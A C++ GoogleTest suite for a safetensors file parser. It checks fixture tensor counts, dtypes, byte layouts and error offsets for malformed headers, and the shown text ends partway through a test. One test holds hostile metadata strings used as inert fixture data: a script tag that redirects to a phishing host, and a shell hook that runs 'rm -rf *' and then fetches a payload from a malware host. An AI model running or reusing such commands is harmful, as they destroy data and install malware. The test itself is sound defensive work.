#include <gtest/gtest.h>

#include <algorithm>
#include <bit>
#include <cmath>
#include <cstdint>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <limits>
#include <map>
#include <string>
#include <string_view>
#include <vector>

#include <fmt/format.h>

#include "base/json.hpp"
#include "format/table.hpp"
#include "ringload/model.hpp"
#include "support/build_bytes.hpp"
#include "support/fixtures.hpp"

namespace ringload {
namespace {

// ---------------------------------------------------------------------------------------------
// Helpers

std::vector<std::byte> read_all(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::vector<char> chars((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  std::vector<std::byte> bytes(chars.size());
  if (!chars.empty()) std::memcpy(bytes.data(), chars.data(), chars.size());
  return bytes;
}

// A safetensors image: the header length, the header text as given (so it can be wrong), then
// `data_bytes` bytes of data, each byte its own index mod 251 (position-encoded).
std::vector<std::byte> safetensors_image(std::string_view header, std::size_t data_bytes) {
  test::ByteBuilder b;
  b.u64(header.size()).str(header);
  for (std::size_t i = 0; i < data_bytes; ++i) b.u8(static_cast<std::uint8_t>(i % 251));
  return b.take();
}

// Where the data buffer of safetensors_image(header, ...) starts.
std::uint64_t data_start(std::string_view header) { return 8 + header.size(); }

Result<TensorTable> parse(const std::vector<std::byte>& bytes) { return parse_safetensors(bytes); }

// A "__metadata__" value as a string ("" when absent or not a string).
std::string metadata_string(const MetadataValue& metadata, std::string_view key) {
  const MetadataValue* value = metadata.find(key);
  return value != nullptr && value->is_string() ? *value->if_string() : std::string();
}

// Absolute offset of the header entry whose key is spelled `quoted_key` (quotes and escapes as in
// `header`): its opening quote, 8 bytes (the length field) into the file. The first match.
std::uint64_t entry_at(std::string_view header, std::string_view quoted_key) {
  const std::size_t at = header.find(std::string(quoted_key) + ":");
  EXPECT_NE(at, std::string_view::npos) << quoted_key << " in " << header;
  return 8 + at;
}

const TensorInfo* find_tensor(const TensorTable& table, std::string_view name) {
  for (const auto& t : table.tensors) {
    if (t.name == name) return &t;
  }
  return nullptr;
}

float half_to_float(std::uint16_t h) {
  const int exponent = (h >> 10) & 0x1F;
  const int mantissa = h & 0x3FF;
  const float sign = (h & 0x8000) != 0 ? -1.0F : 1.0F;
  if (exponent == 0) return sign * std::ldexp(static_cast<float>(mantissa), -24);
  return sign * std::ldexp(static_cast<float>(mantissa + 1024), exponent - 25);
}

template <class T>
T element_at(std::span<const std::byte> bytes, std::uint64_t index) {
  T value;
  std::memcpy(&value, bytes.data() + index * sizeof(T), sizeof(T));
  return value;
}

// ---------------------------------------------------------------------------------------------
// Every safetensors fixture parses with MANIFEST.md's tensor count and dtypes.

struct FixtureExpectation {
  const char* file;
  std::size_t tensor_count;
  std::uint64_t data_offset;
  std::map<std::string, std::size_t> dtype_counts;
  std::size_t metadata_entries;
};

class SafetensorsFixture : public ::testing::TestWithParam<FixtureExpectation> {};

TEST_P(SafetensorsFixture, ParsesWithManifestCountsAndDtypes) {
  const FixtureExpectation& want = GetParam();
  RINGLOAD_FIXTURE_OR_SKIP(path, want.file);
  const auto bytes = read_all(path);
  auto table = parse(bytes);
  ASSERT_TRUE(table) << table.error().to_string();

  EXPECT_EQ(table->format, Format::safetensors);
  EXPECT_EQ(table->version, 0U);
  EXPECT_EQ(table->alignment, 1U);
  EXPECT_EQ(table->data_offset, want.data_offset);
  ASSERT_EQ(table->tensors.size(), want.tensor_count);
  std::map<std::string, std::size_t> dtype_counts;
  for (const auto& t : table->tensors) ++dtype_counts[std::string(dtype_name(t.dtype))];
  EXPECT_EQ(dtype_counts, want.dtype_counts);
  ASSERT_TRUE(table->metadata.is_object());
  EXPECT_EQ(table->metadata.size(), want.metadata_entries);

  // Sorted, contiguous from the data start, ending exactly at EOF.
  std::uint64_t expected = want.data_offset;
  for (const auto& t : table->tensors) {
    EXPECT_EQ(t.offset, expected) << t.name;
    expected = t.offset + t.size;
  }
  EXPECT_EQ(expected, bytes.size());
}

// Counts from MANIFEST.md; data offsets are 8 + the header length each file declares.
INSTANTIATE_TEST_SUITE_P(
    , SafetensorsFixture,
    ::testing::Values(
        FixtureExpectation{"hadamards.safetensors", 66, 5856, {{"I8", 66}}, 66},
        FixtureExpectation{"jl-model-alldtypes.safetensors",
                           36,
                           2536,
                           {{"I64", 3},
                            {"F64", 3},
                            {"F32", 3},
                            {"I32", 3},
                            {"BF16", 3},
                            {"F16", 3},
                            {"I16", 3},
                            {"F8_E4M3", 3},
                            {"F8_E5M2", 3},
                            {"I8", 3},
                            {"U8", 3},
                            {"BOOL", 3}},
                           0},
        FixtureExpectation{"jl-model-numpy.safetensors",
                           27,
                           1848,
                           {{"I64", 3},
                            {"F64", 3},
                            {"F32", 3},
                            {"I32", 3},
                            {"F16", 3},
                            {"I16", 3},
                            {"I8", 3},
                            {"U8", 3},
                            {"BOOL", 3}},
                           0},
        FixtureExpectation{"sharded-safetensors-jl/model-00001-of-00006.safetensors",
                           19,
                           1280,
                           {{"F16", 3},
                            {"I64", 2},
                            {"F64", 2},
                            {"F32", 2},
                            {"I32", 2},
                            {"I16", 2},
                            {"I8", 2},
                            {"U8", 2},
                            {"BOOL", 2}},
                           1},
        FixtureExpectation{
            "sharded-safetensors-jl/model-00002-of-00006.safetensors", 1, 112, {{"F32", 1}}, 1},
        FixtureExpectation{
            "sharded-safetensors-jl/model-00003-of-00006.safetensors", 2, 184, {{"F64", 1}, {"BOOL", 1}}, 1},
        FixtureExpectation{"sharded-safetensors-jl/model-00004-of-00006.safetensors",
                           4,
                           312,
                           {{"I32", 1}, {"I16", 1}, {"I8", 1}, {"U8", 1}},
                           1},
        FixtureExpectation{"sharded-safetensors-jl/model-00005-of-00006.safetensors",
                           7,
                           552,
                           {{"I64", 1}, {"BF16", 2}, {"F8_E4M3", 2}, {"F8_E5M2", 2}},
                           1},
        FixtureExpectation{"sharded-safetensors-jl/model-00006-of-00006.safetensors",
                           3,
                           272,
                           {{"BF16", 1}, {"F8_E4M3", 1}, {"F8_E5M2", 1}},
                           1},
        FixtureExpectation{"burn-mnist.safetensors", 20, 1528, {{"F32", 18}, {"I64", 2}}, 0},
        FixtureExpectation{"burn-boolean.safetensors", 1, 72, {{"BOOL", 1}}, 0},
        FixtureExpectation{"burn-non_contiguous_indexes.safetensors", 10, 696, {{"F32", 10}}, 0},
        FixtureExpectation{"candle-whisper-mel_filters.safetensors", 1, 80, {{"F32", 1}}, 0},
        FixtureExpectation{"candle-encodec-jfk-codes.safetensors", 1, 80, {{"I64", 1}}, 0},
        FixtureExpectation{"ollama-minicpm3-4b-testdata.safetensors", 15, 1544, {{"F32", 15}}, 0},
        FixtureExpectation{"syoyo-model-f64.safetensors", 2, 144, {{"F64", 2}}, 0},
        FixtureExpectation{"mlverse-hello.safetensors", 2, 136, {{"F32", 2}}, 0},
        FixtureExpectation{"java-sample.safetensors", 2, 144, {{"I64", 1}, {"F32", 1}}, 0},
        FixtureExpectation{"aprender-test_forest_10trees.safetensors", 73, 5525, {{"F32", 73}}, 0},
        FixtureExpectation{"aprender-linreg-model.safetensors", 2, 135, {{"F32", 2}}, 0},
        FixtureExpectation{"modelaudit-safe_model.safetensors", 3, 472, {{"F32", 3}}, 8},
        FixtureExpectation{"malformed/modelaudit-multiple_patterns.safetensors", 3, 504, {{"F32", 3}}, 4},
        FixtureExpectation{"malformed/modelaudit-obfuscated_metadata.safetensors", 3, 448, {{"F32", 3}}, 3}),
    [](const ::testing::TestParamInfo<FixtureExpectation>& info) {
      std::string name = std::filesystem::path(info.param.file).stem().string();
      std::replace_if(
          name.begin(), name.end(), [](char c) { return std::isalnum(static_cast<unsigned char>(c)) == 0; },
          '_');
      return name;
    });

// ---------------------------------------------------------------------------------------------
// Byte-exact content and layout of particular fixtures.

// Each tensor of jl-model-numpy is np.arange(n) in its dtype (BOOL: arange % 2).
TEST(SafetensorsFixtureContent, NumpyTensorsHoldArangeInEveryDtype) {
  RINGLOAD_FIXTURE_OR_SKIP(path, "jl-model-numpy.safetensors");
  const auto bytes = read_all(path);
  auto table = parse(bytes);
  ASSERT_TRUE(table) << table.error().to_string();
  ASSERT_EQ(table->tensors.size(), 27U);

  for (const auto& t : table->tensors) {
    SCOPED_TRACE(t.name);
    std::uint64_t n = 1;
    for (auto d : t.shape) n *= d;
    ASSERT_EQ(t.size, n * dtype_info(t.dtype).block_bytes);
    ASSERT_LE(t.offset + t.size, bytes.size());
    const std::span<const std::byte> data(bytes.data() + t.offset, t.size);
    for (std::uint64_t i = 0; i < n; ++i) {
      switch (t.dtype) {
        case DType::I64: ASSERT_EQ(element_at<std::int64_t>(data, i), static_cast<std::int64_t>(i)); break;
        case DType::F64: ASSERT_EQ(element_at<double>(data, i), static_cast<double>(i)); break;
        case DType::F32: ASSERT_EQ(element_at<float>(data, i), static_cast<float>(i)); break;
        case DType::I32: ASSERT_EQ(element_at<std::int32_t>(data, i), static_cast<std::int32_t>(i)); break;
        case DType::F16:
          ASSERT_EQ(half_to_float(element_at<std::uint16_t>(data, i)), static_cast<float>(i));
          break;
        case DType::I16: ASSERT_EQ(element_at<std::int16_t>(data, i), static_cast<std::int16_t>(i)); break;
        case DType::I8: ASSERT_EQ(element_at<std::int8_t>(data, i), static_cast<std::int8_t>(i)); break;
        case DType::U8: ASSERT_EQ(element_at<std::uint8_t>(data, i), static_cast<std::uint8_t>(i)); break;
        case DType::BOOL: ASSERT_EQ(element_at<std::uint8_t>(data, i), i % 2); break;
        default: FAIL() << "unexpected dtype " << dtype_name(t.dtype);
      }
    }
  }
  // Spot-check the layout against the header: shapes in file order, dtype per name.
  const TensorInfo* t = find_tensor(*table, "float16_357");
  ASSERT_NE(t, nullptr);
  EXPECT_EQ(t->dtype, DType::F16);
  EXPECT_EQ(t->shape, (std::vector<std::uint64_t>{3, 5, 7}));
  EXPECT_EQ(t->offset, 1848U + 2988U);
  EXPECT_EQ(t->size, 210U);
}

TEST(SafetensorsFixtureContent, HadamardsAreSquareOrthogonalPlusMinusOneMatricesTilingToEof) {
  RINGLOAD_FIXTURE_OR_SKIP(path, "hadamards.safetensors");
  const auto bytes = read_all(path);
  auto table = parse(bytes);
  ASSERT_TRUE(table) << table.error().to_string();
  ASSERT_EQ(table->tensors.size(), 66U);

  // The first tensor is "1": one byte at data offset 0; the next starts at byte 1 (unaligned).
  const TensorInfo& first = table->tensors.front();
  EXPECT_EQ(first.name, "1");
  EXPECT_EQ(first.dtype, DType::I8);
  EXPECT_EQ(first.shape, (std::vector<std::uint64_t>{1, 1}));
  EXPECT_EQ(first.offset, 5856U);
  EXPECT_EQ(first.size, 1U);
  EXPECT_EQ(bytes[first.offset], std::byte{0x01});
  EXPECT_EQ(table->tensors[1].offset, 5857U);
  const TensorInfo& last = table->tensors.back();
  EXPECT_EQ(last.offset + last.size, 1'436'901U);
  EXPECT_EQ(bytes.size(), 1'436'901U);
  EXPECT_EQ(metadata_string(table->metadata, "256"), "had.256.syl");

  std::uint64_t total_elements = 0;
  for (const auto& t : table->tensors) {
    SCOPED_TRACE(t.name);
    EXPECT_EQ(t.dtype, DType::I8);
    ASSERT_EQ(t.shape.size(), 2U);
    const std::uint64_t n = t.shape[0];
    ASSERT_EQ(t.shape[1], n);
    EXPECT_EQ(std::to_string(n), t.name);
    ASSERT_EQ(t.size, n * n);
    total_elements += n * n;
    const auto* h = reinterpret_cast<const std::int8_t*>(bytes.data() + t.offset);
    for (std::uint64_t i = 0; i < n * n; ++i) ASSERT_TRUE(h[i] == 1 || h[i] == -1) << "element " << i;
    // H * H^T = n * I, checked for row 0 against every row (a full product is slow under ASan).
    for (std::uint64_t r = 0; r < n; ++r) {
      std::int64_t dot = 0;
      for (std::uint64_t c = 0; c < n; ++c) dot += h[c] * h[r * n + c];
      ASSERT_EQ(dot, r == 0 ? static_cast<std::int64_t>(n) : 0) << "row " << r;
    }
  }
  EXPECT_EQ(total_elements, 1'431'045U);
}

TEST(SafetensorsFixtureContent, BurnMnistHasRankZeroI64Scalars) {
  RINGLOAD_FIXTURE_OR_SKIP(path, "burn-mnist.safetensors");
  const auto bytes = read_all(path);
  auto table = parse(bytes);
  ASSERT_TRUE(table) << table.error().to_string();
  for (const char* name : {"norm1.num_batches_tracked", "norm2.num_batches_tracked"}) {
    SCOPED_TRACE(name);
    const TensorInfo* t = find_tensor(*table, name);
    ASSERT_NE(t, nullptr);
    EXPECT_EQ(t->dtype, DType::I64);
    EXPECT_TRUE(t->shape.empty());
    EXPECT_EQ(t->size, 8U);
    EXPECT_EQ(element_at<std::int64_t>(std::span(bytes.data() + t->offset, 8), 0), 7504);
  }
  EXPECT_EQ(find_tensor(*table, "norm1.num_batches_tracked")->offset, 1528U);
  EXPECT_EQ(find_tensor(*table, "norm2.num_batches_tracked")->offset, 1536U);
}

TEST(SafetensorsFixtureContent, AprenderDataSectionsStartUnaligned) {
  {
    RINGLOAD_FIXTURE_OR_SKIP(path, "aprender-test_forest_10trees.safetensors");
    auto table = parse(read_all(path));
    ASSERT_TRUE(table) << table.error().to_string();
    EXPECT_EQ(table->data_offset, 5525U);
    EXPECT_EQ(table->data_offset % 8, 5U);
    EXPECT_EQ(table->tensors.front().offset, 5525U);
  }
  RINGLOAD_FIXTURE_OR_SKIP(path, "aprender-linreg-model.safetensors");
  const auto bytes = read_all(path);
  auto table = parse(bytes);
  ASSERT_TRUE(table) << table.error().to_string();
  EXPECT_EQ(table->data_offset, 135U);
  EXPECT_EQ(table->data_offset % 8, 7U);
  const TensorInfo* coefficients = find_tensor(*table, "coefficients");
  const TensorInfo* intercept = find_tensor(*table, "intercept");
  ASSERT_NE(coefficients, nullptr);
  ASSERT_NE(intercept, nullptr);
  EXPECT_EQ(coefficients->shape, (std::vector<std::uint64_t>{2}));
  EXPECT_EQ(intercept->shape, (std::vector<std::uint64_t>{1}));
  EXPECT_EQ(coefficients->size + intercept->size, 12U);
  EXPECT_EQ(std::min(coefficients->offset, intercept->offset), 135U);
  EXPECT_EQ(std::max(coefficients->offset + coefficients->size, intercept->offset + intercept->size), 147U);
}

TEST(SafetensorsFixtureContent, HostileMetadataStaysOpaqueStrings) {
  RINGLOAD_FIXTURE_OR_SKIP(patterns, "malformed/modelaudit-multiple_patterns.safetensors");
  auto table = parse(read_all(patterns));
  ASSERT_TRUE(table) << table.error().to_string();
  EXPECT_EQ(metadata_string(table->metadata, "cleanup_script"),
            "<script>document.location='http://phishing.com'</script>");
  EXPECT_EQ(metadata_string(table->metadata, "shell_hook"), "rm -rf * && wget http://malware.com/payload");

  RINGLOAD_FIXTURE_OR_SKIP(obfuscated, "malformed/modelaudit-obfuscated_metadata.safetensors");
  auto table2 = parse(read_all(obfuscated));
  ASSERT_TRUE(table2) << table2.error().to_string();
  // JSON "\\x48" decodes to the four characters \x48, never to 'H'.
  EXPECT_EQ(metadata_string(table2->metadata, "hex_data"), R"(\x48\x65\x6c\x6c\x6f\x20\x57\x6f\x72\x6c\x64)");
  for (const auto& [key, value] : *table2->metadata.if_object()) EXPECT_TRUE(value.is_string()) << key;
}

TEST(SafetensorsFixtureContent, ModelLoadsFixtureThroughDetection) {
  RINGLOAD_FIXTURE_OR_SKIP(path, "java-sample.safetensors");
  auto model = Model::load(path);
  ASSERT_TRUE(model) << model.error().to_string();
  EXPECT_EQ(model->format(), Format::safetensors);
  auto ints = model->tensor("some_ints");
  ASSERT_TRUE(ints) << ints.error().to_string();
  EXPECT_EQ(ints->dtype, DType::I64);
  EXPECT_EQ(ints->shape, (std::vector<std::uint64_t>{1, 4}));
}

// ---------------------------------------------------------------------------------------------
// Hand-built valid files: what the parser tolerates and how it fills the table.

TEST(SafetensorsParse, FillsTableWithAbsoluteOffsetsSortedByOffset) {
  // Listed out of data order; unknown entry fields are ignored, as by the reference.
  const std::string header = R"({"b":{"dtype":"F32","shape":[2],"data_offsets":[2,10],"extra":1},)"
                             R"("__metadata__":{"format":"pt","z":"1"},)"
                             R"("a":{"dtype":"U16","shape":[1],"data_offsets":[0,2]}})";
  auto table = parse(safetensors_image(header, 10));
  ASSERT_TRUE(table) << table.error().to_string();
  EXPECT_EQ(table->format, Format::safetensors);
  EXPECT_EQ(table->version, 0U);
  EXPECT_EQ(table->alignment, 1U);
  EXPECT_EQ(table->data_offset, data_start(header));
  ASSERT_EQ(table->tensors.size(), 2U);
  EXPECT_EQ(table->tensors[0].name, "a");
  EXPECT_EQ(table->tensors[0].dtype, DType::U16);
  EXPECT_EQ(table->tensors[0].offset, data_start(header));
  EXPECT_EQ(table->tensors[0].size, 2U);
  EXPECT_EQ(table->tensors[1].name, "b");
  EXPECT_EQ(table->tensors[1].dtype, DType::F32);
  EXPECT_EQ(table->tensors[1].shape, (std::vector<std::uint64_t>{2}));
  EXPECT_EQ(table->tensors[1].offset, data_start(header) + 2);
  EXPECT_EQ(table->tensors[1].size, 8U);
  EXPECT_EQ(table->metadata, MetadataValue(MetadataValue::Object{{"format", "pt"}, {"z", "1"}}));
}

TEST(SafetensorsParse, AcceptsLeadingAndTrailingJsonWhitespace) {
  const std::string header = " \n\t{\"a\":{\"dtype\":\"I8\",\"shape\":[3],\"data_offsets\":[0,3]}}\r\n   ";
  auto table = parse(safetensors_image(header, 3));
  ASSERT_TRUE(table) << table.error().to_string();
  ASSERT_EQ(table->tensors.size(), 1U);
  EXPECT_EQ(table->tensors[0].offset, data_start(header));
  EXPECT_TRUE(table->metadata.is_object());
  EXPECT_TRUE(table->metadata.empty());
}

TEST(SafetensorsParse, AcceptsZeroSizeTensorsAnywhereInTheTiling) {
  // Empty tensors take no bytes; they may sit at 0, between tensors and at the end.
  const std::string header = R"({"e0":{"dtype":"F32","shape":[0],"data_offsets":[0,0]},)"
                             R"("a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},)"
                             R"("e1":{"dtype":"F64","shape":[4,0,2],"data_offsets":[4,4]},)"
                             R"("b":{"dtype":"I8","shape":[2],"data_offsets":[4,6]},)"
                             R"("e2":{"dtype":"F4","shape":[0],"data_offsets":[6,6]}})";
  auto table = parse(safetensors_image(header, 6));
  ASSERT_TRUE(table) << table.error().to_string();
  ASSERT_EQ(table->tensors.size(), 5U);
  const TensorInfo* e1 = find_tensor(*table, "e1");
  ASSERT_NE(e1, nullptr);
  EXPECT_EQ(e1->size, 0U);
  EXPECT_EQ(e1->offset, data_start(header) + 4);
  EXPECT_EQ(e1->shape, (std::vector<std::uint64_t>{4, 0, 2}));
}

TEST(SafetensorsParse, AcceptsEmptyHeaderObjectWithNoData) {
  auto table = parse(safetensors_image("{}", 0));
  ASSERT_TRUE(table) << table.error().to_string();
  EXPECT_TRUE(table->tensors.empty());
  EXPECT_EQ(table->data_offset, 10U);
}

TEST(SafetensorsParse, AcceptsWholeByteSubByteDtypes) {
  const std::string header = R"({"f4":{"dtype":"F4","shape":[2,3],"data_offsets":[0,3]},)"
                             R"("f6":{"dtype":"F6_E2M3","shape":[8],"data_offsets":[3,9]},)"
                             R"("c":{"dtype":"C64","shape":[1],"data_offsets":[9,17]}})";
  auto table = parse(safetensors_image(header, 17));
  ASSERT_TRUE(table) << table.error().to_string();
  EXPECT_EQ(find_tensor(*table, "f4")->dtype, DType::F4);
  EXPECT_EQ(find_tensor(*table, "f4")->size, 3U);
  EXPECT_EQ(find_tensor(*table, "f6")->dtype, DType::F6_E2M3);
  EXPECT_EQ(find_tensor(*table, "f6")->size, 6U);
  EXPECT_EQ(find_tensor(*table, "c")->dtype, DType::C64);
}

TEST(SafetensorsParse, AcceptsEverySafetensorsDtypeName) {
  const std::vector<std::pair<std::string, DType>> names = {{"BOOL", DType::BOOL},
                                                            {"U8", DType::U8},
                                                            {"I8", DType::I8},
                                                            {"F8_E5M2", DType::F8_E5M2},
                                                            {"F8_E4M3", DType::F8_E4M3},
                                                            {"F8_E8M0", DType::F8_E8M0},
                                                            {"F8_E4M3FNUZ", DType::F8_E4M3FNUZ},
                                                            {"F8_E5M2FNUZ", DType::F8_E5M2FNUZ},
                                                            {"I16", DType::I16},
                                                            {"U16", DType::U16},
                                                            {"F16", DType::F16},
                                                            {"BF16", DType::BF16},
                                                            {"I32", DType::I32},
                                                            {"U32", DType::U32},
                                                            {"F32", DType::F32},
                                                            {"C64", DType::C64},
                                                            {"F64", DType::F64},
                                                            {"I64", DType::I64},
                                                            {"U64", DType::U64},
                                                            {"F4", DType::F4},
                                                            {"F6_E2M3", DType::F6_E2M3},
                                                            {"F6_E3M2", DType::F6_E3M2}};
  for (const auto& [name, dtype] : names) {
    SCOPED_TRACE(name);
    // 8 elements are a whole number of bytes for every dtype (F6: 6 bytes, F4: 4 bytes).
    const std::uint64_t size = 8 * dtype_info(dtype).block_bytes / dtype_info(dtype).block_elems;
    const std::string header =
        R"({"t":{"dtype":")" + name + R"(","shape":[8],"data_offsets":[0,)" + std::to_string(size) + "]}}";
    auto table = parse(safetensors_image(header, size));
    ASSERT_TRUE(table) << table.error().to_string();
    EXPECT_EQ(table->tensors.at(0).dtype, dtype);
    EXPECT_EQ(table->tensors.at(0).size, size);
  }
}

// ---------------------------------------------------------------------------------------------
// One defective file per rule: exact kind, offset and tensor.

void expect_error(const Result<TensorTable>& r, ErrorKind kind, std::uint64_t offset,
                  std::string_view tensor = {}) {
  ASSERT_FALSE(r) << "expected " << to_string(kind);
  EXPECT_EQ(r.error().kind, kind) << r.error().to_string();
  EXPECT_EQ(r.error().offset, offset) << r.error().to_string();
  EXPECT_EQ(r.error().tensor, tensor) << r.error().to_string();
  EXPECT_TRUE(r.error().path.empty());
  EXPECT_FALSE(r.error().message.empty());
}

TEST(SafetensorsParse, RejectsEmptyFileAsTruncated) { expect_error(parse({}), ErrorKind::truncated, 0); }

TEST(SafetensorsParse, RejectsSevenByteFileAsTruncated) {
  test::ByteBuilder b;
  b.fill(7, 0x02);
  expect_error(parse(b.take()), ErrorKind::truncated, 0);
}

TEST(SafetensorsParse, RejectsHeaderLengthU64Max) {
  test::ByteBuilder b;
  b.u64(std::numeric_limits<std::uint64_t>::max()).str("{}");
  expect_error(parse(b.take()), ErrorKind::header_too_large, 0);
}

TEST(SafetensorsParse, RejectsHeaderLengthOneOverTheLimit) {
  test::ByteBuilder b;
  b.u64(100'000'001).str("{}");
  expect_error(parse(b.take()), ErrorKind::header_too_large, 0);
}

TEST(SafetensorsParse, RejectsHeaderLengthAtTheLimitPastEofAsTruncated) {
  // 100,000,000 is allowed by the limit; it is the missing bytes that are wrong.
  test::ByteBuilder b;
  b.u64(100'000'000).str("{}");
  expect_error(parse(b.take()), ErrorKind::truncated, 0);
}

TEST(SafetensorsParse, RejectsHeaderLengthPastEndOfFile) {
  test::ByteBuilder b;
  b.u64(64).str("{}");  // 10 bytes in all, the header claims 64
  auto r = parse(b.take());
  expect_error(r, ErrorKind::truncated, 0);
  EXPECT_NE(r.error().message.find("64"), std::string::npos) << r.error().message;
  EXPECT_NE(r.error().message.find("10 bytes"), std::string::npos) << r.error().message;
}

TEST(SafetensorsParse, RejectsNonUtf8HeaderAtTheBadByte) {
  // 0xC0 is never valid UTF-8; it sits at index 6 of the header.
  const std::string header = "{\"a\":\"\xC0\"}";
  expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + 6);
}

TEST(SafetensorsParse, RejectsTruncatedJson) {
  const std::string header = R"({"a":{"dtype":"F32")";
  // The parser reports the byte where the text ran out: one past the header's last byte.
  expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, data_start(header));
}

TEST(SafetensorsParse, RejectsJsonSyntaxErrorAtTheOffendingByte) {
  const std::string header = R"({"a" 1})";
  expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + 5);
}

TEST(SafetensorsParse, RejectsNulPaddedHeader) {
  // Only JSON whitespace may pad the header; the reference rejects NUL padding.
  const std::string header("{}\0\0", 4);
  expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + 2);
}

TEST(SafetensorsParse, AcceptsEscapedNulInsideAString) {
  // "\u0000" is valid JSON (only a raw NUL byte is not); the value keeps its NUL.
  const std::string header = R"({"__metadata__":{"k":"a\u0000b"}})";
  auto table = parse(safetensors_image(header, 0));
  ASSERT_TRUE(table) << table.error().to_string();
  EXPECT_EQ(metadata_string(table->metadata, "k"), std::string("a\0b", 3));
}

TEST(SafetensorsParse, RejectsHeaderThatIsNotAnObject) {
  expect_error(parse(safetensors_image("[]", 0)), ErrorKind::malformed_header, 8);
  expect_error(parse(safetensors_image(R"("text")", 0)), ErrorKind::malformed_header, 8);
}

// Entry errors point at the entry's key: byte 8 + 1 when "w" is the first key.
TEST(SafetensorsParse, RejectsEntryThatIsNotAnObject) {
  expect_error(parse(safetensors_image(R"({"w":[0,4]})", 4)), ErrorKind::malformed_header, 9, "w");
}

TEST(SafetensorsParse, RejectsEntryWithMissingField) {
  expect_error(parse(safetensors_image(R"({"w":{"shape":[1],"data_offsets":[0,4]}})", 4)),
               ErrorKind::malformed_header, 9, "w");
  expect_error(parse(safetensors_image(R"({"w":{"dtype":"F32","data_offsets":[0,4]}})", 4)),
               ErrorKind::malformed_header, 9, "w");
  expect_error(parse(safetensors_image(R"({"w":{"dtype":"F32","shape":[1]}})", 4)),
               ErrorKind::malformed_header, 9, "w");
}

TEST(SafetensorsParse, ReportsAnEntryErrorAtThatEntrysKey) {
  // The faulty entry is the third, after whitespace, a BOM and escapes that the offset counts.
  const std::string header =
      "\xEF\xBB\xBF {\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]},\n"
      "  \"b\\u0022\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[1,2]},\n"
      "  \"c\":{\"shape\":[1],\"data_offsets\":[2,3]}}";
  const std::uint64_t c_at = 8 + header.find("\"c\":");
  expect_error(parse(safetensors_image(header, 3)), ErrorKind::malformed_header, c_at, "c");
  // The same among 3,000 entries.
  std::string many = "{";
  for (int i = 0; i < 3000; ++i) {
    many += fmt::format(R"("t{}":{{"dtype":"U8","shape":[1],"data_offsets":[{},{}]}},)", i, i, i + 1);
  }
  many += R"("bad":{"dtype":"U8","shape":[1],"data_offsets":[3000,3001],"dtype":"U8"}})";
  expect_error(parse(safetensors_image(many, 3001)), ErrorKind::duplicate_name, 8 + many.rfind(R"("dtype")"));
  many.replace(many.rfind(R"(,"dtype":"U8")"), 13, "");
  many.replace(many.find(R"("t1234":{"dtype":"U8")"), 21, R"("t1234":{"dtype":"X8")");
  expect_error(parse(safetensors_image(many, 3001)), ErrorKind::unknown_dtype, entry_at(many, R"("t1234")"),
               "t1234");
}

TEST(SafetensorsParse, RejectsEntryWithWronglyTypedField) {
  const std::vector<std::string> headers = {
      R"({"w":{"dtype":32,"shape":[1],"data_offsets":[0,4]}})",
      R"({"w":{"dtype":"F32","shape":1,"data_offsets":[0,4]}})",
      R"({"w":{"dtype":"F32","shape":[-1],"data_offsets":[0,4]}})",
      R"({"w":{"dtype":"F32","shape":[1.0],"data_offsets":[0,4]}})",
      R"({"w":{"dtype":"F32","shape":["1"],"data_offsets":[0,4]}})",
      R"({"w":{"dtype":"F32","shape":[1],"data_offsets":[-4,0]}})",
      R"({"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4.5]}})",
      R"({"w":{"dtype":"F32","shape":[1],"data_offsets":[0]}})",
      R"({"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4,8]}})",
      R"({"w":{"dtype":"F32","shape":[1],"data_offsets":{"begin":0,"end":4}}})",
      // 2^64 does not fit u64: nlohmann reads it as a float.
      R"({"w":{"dtype":"F32","shape":[1],"data_offsets":[0,18446744073709551616]}})",
  };
  for (const auto& header : headers) {
    SCOPED_TRACE(header);
    expect_error(parse(safetensors_image(header, 4)), ErrorKind::malformed_header, 9, "w");
  }
}

TEST(SafetensorsParse, RejectsUnknownDtypeName) {
  // Q4_K is a GGUF dtype ringload knows, but not a safetensors one; names are case-sensitive.
  for (const char* dtype : {"Q4_K", "f32", "F31", "APR_Q8", ""}) {
    SCOPED_TRACE(dtype);
    const std::string header = R"({"a":{"dtype":"I8","shape":[4],"data_offsets":[0,4]},"w":{"dtype":")" +
                               std::string(dtype) + R"(","shape":[1],"data_offsets":[4,8]}})";
    expect_error(parse(safetensors_image(header, 8)), ErrorKind::unknown_dtype, entry_at(header, R"("w")"),
                 "w");
  }
}

TEST(SafetensorsParse, RejectsShapeWhoseElementCountOverflows) {
  const std::string header = R"({"w":{"dtype":"U8","shape":[4294967296,4294967296],"data_offsets":[0,4]}})";
  expect_error(parse(safetensors_image(header, 4)), ErrorKind::invalid_shape, 9, "w");
}

TEST(SafetensorsParse, RejectsShapeWhoseBitCountOverflows) {
  // 2^62 elements fit u64, 2^62 x 32 bits do not.
  const std::string header = R"({"w":{"dtype":"F32","shape":[4611686018427387904],"data_offsets":[0,4]}})";
  expect_error(parse(safetensors_image(header, 4)), ErrorKind::invalid_shape, 9, "w");
}

TEST(SafetensorsParse, RejectsF4WithOddElementCount) {
  const std::string header =
      R"({"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"w":{"dtype":"F4","shape":[3],"data_offsets":[2,4]}})";
  expect_error(parse(safetensors_image(header, 4)), ErrorKind::invalid_shape, entry_at(header, R"("w")"),
               "w");
}

TEST(SafetensorsParse, RejectsF6WithPartialByte) {
  // 2 x 6 bits = 12 bits.
  const std::string header = R"({"w":{"dtype":"F6_E3M2","shape":[2],"data_offsets":[0,2]}})";
  expect_error(parse(safetensors_image(header, 2)), ErrorKind::invalid_shape, 9, "w");
}

TEST(SafetensorsParse, RejectsByteRangeThatDiffersFromDtypeTimesShape) {
  const std::string header =
      R"({"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"w":{"dtype":"F32","shape":[2,2],"data_offsets":[8,20]}})";
